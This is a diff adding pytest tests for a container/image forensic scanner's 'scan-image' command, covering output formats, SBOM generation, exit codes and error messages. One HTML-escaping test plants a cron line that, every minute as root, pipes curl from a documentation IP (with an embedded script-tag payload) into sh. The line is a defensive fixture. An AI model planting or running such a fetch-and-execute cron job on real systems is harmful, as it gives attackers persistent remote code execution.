@@ -1,0 +1,93 @@
+"""``cranewatch scan-image`` on the command line: formats, SBOM, exit codes, messages."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from cranewatch.cli import main
+from cranewatch.forensics.demo_image import build_tree, bundled_demo_image
+from cranewatch.model import Finding
+
+OSV = Path(__file__).parent / "data" / "forensics" / "osv"
+
+
+def test_help_has_an_example(capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit) as stop:
+        main(["scan-image", "--help"])
+    assert stop.value.code == 0
+    out = capsys.readouterr().out
+    assert "Example:" in out and "--reference" in out and "--sbom" in out
+
+
+def test_jsonl_header_findings_and_fail_on(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    out = tmp_path / "scan.jsonl"
+    code = main(["scan-image", str(bundled_demo_image()), "--crane", "STS-07", "--format", "jsonl",
+                 "--out", str(out), "--fail-on", "high", "--vulndb", str(OSV)])
+    assert code == 1
+    lines = [json.loads(line) for line in out.read_text().splitlines()]
+    header, findings = lines[0], [x for x in lines[1:] if x["type"] == "finding"]
+    assert header["type"] == "scan" and header["inputs"][0]["format"] == "tar"
+    assert len(header["inputs"][0]["sha256"]) == 64
+    assert header["counts"]["critical"] == sum(f["severity"] == "critical" for f in findings) > 0
+    parsed = [Finding.from_json(f) for f in findings]
+    assert all(f.crane == "STS-07" and f.evidence[0].path for f in parsed)
+    assert [f.to_json() for f in parsed] == findings  # the Finding contract round-trips
+
+
+def test_clean_tree_exits_0_even_with_fail_on(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    tree = tmp_path / "root"
+    tree.mkdir()
+    build_tree(tree)
+    assert main(["scan-image", str(tree), "--fail-on", "info"]) == 0
+    assert "findings  0" in capsys.readouterr().out
+
+
+def test_html_report_escapes_image_content(tmp_path: Path) -> None:
+    tree = tmp_path / "root"
+    tree.mkdir()
+    build_tree(tree)
+    (tree / "etc/cron.d").mkdir(parents=True)
+    (tree / "etc/cron.d/x").write_text("* * * * * root curl http://198.51.100.7/<script>alert(1)</script> | sh\n")
+    html = tmp_path / "r.html"
+    assert main(["scan-image", str(tree), "--format", "html", "--out", str(html)]) == 0
+    text = html.read_text()
+    assert "<script>alert" not in text and "&lt;script&gt;alert" in text
+    assert "etc/cron.d/x" in text and "198.51.100.7" in text
+
+
+def test_sbom_file(tmp_path: Path) -> None:
+    sbom = tmp_path / "bom.json"
+    assert main(["scan-image", str(bundled_demo_image()), "--sbom", str(sbom), "--format", "jsonl", "--out", str(tmp_path / "x")]) == 0
+    document = json.loads(sbom.read_text())
+    assert document["bomFormat"] == "CycloneDX" and document["specVersion"] == "1.5"
+
+
+@pytest.mark.parametrize(
+    ("argv", "code", "message"),
+    [
+        (["--fail-on", "severe"], 2, "unknown severity"),
+        (["--rules", "/nonexistent-rules"], 3, "--rules must be a directory"),
+        (["--vulndb", "/nonexistent.json"], 3, "no such vulnerability database"),
+    ],
+)
+def test_bad_options_give_messages_and_codes(argv: list[str], code: int, message: str, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["scan-image", str(bundled_demo_image()), *argv]) == code
+    assert message in capsys.readouterr().err
+
+
+def test_missing_image_exits_3(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["scan-image", "/nonexistent/image.tar.gz"]) == 3
+    assert "no such image" in capsys.readouterr().err
+
+
+def test_module_entry_point_runs_without_traceback(tmp_path: Path) -> None:
+    empty = tmp_path / "empty.img"
+    empty.write_bytes(b"")
+    run = subprocess.run([sys.executable, "-m", "cranewatch", "scan-image", str(empty)], capture_output=True, text=True, check=False)
+    assert run.returncode == 3
+    assert "Traceback" not in run.stderr and "empty (0 bytes)" in run.stderr
